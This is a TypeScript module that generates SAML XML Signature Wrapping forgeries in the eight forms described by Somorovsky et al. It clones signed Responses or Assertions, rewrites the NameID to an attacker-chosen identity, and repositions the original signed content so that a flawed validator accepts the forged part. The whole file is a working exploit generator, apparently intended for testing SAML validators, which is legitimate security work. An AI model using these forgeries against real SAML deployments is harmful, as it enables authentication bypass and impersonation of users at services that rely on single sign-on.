import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

export type Wrapping = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;
export const WRAPPINGS: readonly Wrapping[] = [1, 2, 3, 4, 5, 6, 7, 8];

/**
 * Signature wrapping, in the eight forms that are told apart since Somorovsky et al., "On Breaking SAML" (2012): 1 and 2
 * need a signed Response, the others a signed Assertion. The name in the forged part is `evil`.
 */
export function wrapped(xml: string, form: Wrapping, evil = 'root@example.com'): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const root = document.documentElement as Element;
  if (form <= 2) return serialized(wrapResponse(document, root, { form, evil }));
  wrapAssertion(document, root, { form, evil });
  return serialized(document);
}

interface Forgery {
  readonly form: Wrapping;
  readonly evil: string;
}

function wrapResponse(document: Document, root: Element, { form, evil }: Forgery): Document {
  const forged = root.cloneNode(true) as Element;
  forge(forged, evil);
  const signature = childOf(forged, DSIG, 'Signature');
  const original = root.cloneNode(true) as Element;
  original.removeChild(childOf(original, DSIG, 'Signature'));
  document.replaceChild(forged, root);
  if (form === 1) signature.appendChild(original);
  else forged.insertBefore(original, signature);
  return document;
}

function wrapAssertion(document: Document, root: Element, { form, evil }: Forgery): void {
  const original = childOf(root, SAML, 'Assertion');
  const forged = original.cloneNode(true) as Element;
  const bare = original.cloneNode(true) as Element;
  const signature = childOf(forged, DSIG, 'Signature');
  bare.removeChild(childOf(bare, DSIG, 'Signature'));
  forge(forged, evil);
  if (form === 3 || form === 4 || form === 7) forged.removeChild(signature);
  if (form === 3) root.insertBefore(forged, original);
  if (form === 4) {
    root.replaceChild(forged, original);
    forged.appendChild(original);
  }
  if (form >= 5 && form !== 7) root.replaceChild(forged, original);
  if (form === 5) root.appendChild(bare);
  if (form === 6) signature.appendChild(bare);
  if (form === 7) root.insertBefore(holding(document, SAMLP, 'Extensions', forged), original);
  if (form === 8) signature.appendChild(holding(document, DSIG, 'Object', bare));
}

function forge(element: Element, evil: string): void {
  element.setAttribute('ID', '_forged');
  for (const nameId of Array.from(element.getElementsByTagNameNS(SAML, 'NameID'))) nameId.textContent = evil;
}

function holding(document: Document, namespace: string, name: string, child: Element): Element {
  const holder = document.createElementNS(namespace, `x:${name}`);
  holder.appendChild(child);
  return holder;
}

function childOf(element: Element, namespace: string, name: string): Element {
  const children = Array.from(element.childNodes) as Element[];
  const found = children.find((it) => it.localName === name && it.namespaceURI === namespace);
  if (!found) throw new Error(`no ${name}: sign what is to be wrapped`);
  return found;
}

function serialized(document: Document): string {
  return new XMLSerializer().serializeToString(document);
}
